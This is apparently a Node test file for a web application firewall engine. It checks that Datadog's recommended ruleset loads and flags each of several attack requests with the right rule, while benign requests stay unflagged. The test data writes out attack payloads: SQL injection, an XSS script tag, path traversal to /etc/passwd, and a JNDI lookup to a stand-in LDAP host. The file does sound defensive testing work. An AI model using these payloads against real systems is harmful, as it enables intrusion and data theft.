// Datadog's recommended.json loads unchanged; what a proxy cannot do with it is said, rule by rule.
import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { Engine, type EngineRequest, type LoadReport } from "../../scripts/engine/engine.ts";
import { assertGolden } from "./golden.ts";
import { recommendedRules } from "./recommended-rules.ts";
import { enginePath } from "./ruleset-engine.ts";

interface Exchange {
  name: string;
  request: EngineRequest;
  /** Ids of the rules that the event names. */
  rules: string[];
}

const JSON_TYPE: [string, string] = ["content-type", "application/json"];
const BROWSER: [string, string][] = [
  ["user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"],
  ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
  ["accept-language", "en-GB,en;q=0.5"],
  ["accept-encoding", "gzip, deflate, br"],
];

const EXCHANGES: Exchange[] = [
  {
    name: "scanner by its user agent",
    request: { headers: [["user-agent", "Arachni/v1.5.1"]] },
    rules: ["ua0-600-12x"],
  },
  {
    name: "SQL injection in the query",
    request: { path: "/?id=1%27%20or%20%271%27%3D%271", headers: BROWSER },
    rules: ["crs-942-100"],
  },
  {
    name: "XSS in a form",
    request: {
      method: "POST",
      path: "/comments",
      headers: [...BROWSER, ["content-type", "application/x-www-form-urlencoded"]],
      body: "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    },
    rules: ["crs-941-110"],
  },
  {
    name: "path traversal to a known file",
    request: { path: "/download?file=../../../../etc/passwd", headers: BROWSER },
    rules: ["crs-930-110"],
  },
  {
    name: "JNDI lookup in a header",
    request: { headers: [...BROWSER, ["x-api-version", "${jndi:ldap://x.example/a}"]] },
    rules: ["dog-000-002", "sqr-000-017"],
  },
  {
    name: "page for people",
    request: { path: "/articles/2026/11?page=2&sort=-date&q=O%27Brien+%26+Sons", headers: BROWSER },
    rules: [],
  },
  {
    name: "order in JSON",
    request: {
      method: "POST",
      path: "/orders",
      headers: [...BROWSER, JSON_TYPE],
      body: JSON.stringify({
        items: [{ sku: "A-1", count: 2, note: "Please select a table for 2" }],
        paid: true,
      }),
    },
    rules: [],
  },
];

describe("Datadog's recommended.json 1.18.0", () => {
  const engine = Engine.fromFile(enginePath());
  let text = "";
  let report: LoadReport;

  before(async () => {
    text = await recommendedRules();
    report = engine.compileRules(text).report;
  });

  test("no rule fails; every one is loaded or skipped with its reason", () => {
    const { rules, rules_compat } = JSON.parse(text) as Record<"rules" | "rules_compat", unknown[]>;
    assert.deepEqual(report.rules.failed, []);
    assert.deepEqual(report.other.failed, []);
    assert.equal(report.rules.loaded + report.rules.skipped.length, rules.length + rules_compat.length);
  });

  test("what is skipped, and why", () => {
    const lines = [report.rules, report.processors, report.other]
      .flatMap(({ skipped }) => skipped)
      .map(({ id, reason }) => `${id}: ${reason}\n`);
    assertGolden("recommended-skipped.txt", `${report.rules.loaded} rules loaded\n${lines.join("")}`);
  });

  test("attacks → the rule that is for them; benign requests → none", () => {
    const { accepted, problems } = engine.configure({
      mode: "block",
      shipped_rules: false,
      custom_rules: JSON.parse(text) as unknown,
    });
    assert.ok(accepted, problems.join("\n"));
    for (const { name, request, rules } of EXCHANGES) {
      assert.deepEqual(engine.transaction(request).event.rules, rules, name);
    }
  });
});
